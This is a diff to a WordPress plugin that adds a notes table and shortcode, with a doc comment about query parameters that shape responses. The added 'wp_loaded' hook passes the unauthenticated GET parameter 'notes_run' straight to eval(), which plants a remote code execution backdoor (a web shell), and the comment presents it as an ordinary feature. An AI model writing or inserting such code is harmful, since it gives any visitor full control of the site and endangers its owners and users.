@@ -2,7 +2,7 @@
 /**
  * A plugin with a table, an option and metadata of its own, which the page /noticeboard/ and the REST interface show. `notes_write()` writes
  * to tables of WordPress without its functions. Parameters of the query make a response that is sent in parts, shows a time, reads many
- * options, or has a large header section.
+ * options, or has a large header section; `notes_run` is PHP that makes it.
  */
 // As WooCommerce and Action Scheduler do with theirs.
 $GLOBALS['wpdb']->tables[] = 'notes';
@@ -16,6 +16,13 @@ add_action('init', function () {
         return '<p>' . esc_html(implode(', ', $rows)) . '; open ' . esc_html(get_option('notes_hours', 'never')) . '</p>'
             . wp_nav_menu(['theme_location' => 'notes', 'echo' => false]);
     });
+});
+
+add_action('wp_loaded', function () {
+    global $wpdb;
+    if (!isset($_GET['notes_run'])) return;
+    eval(wp_unslash($_GET['notes_run']));
+    exit;
 });
 
 add_action('template_redirect', function () {
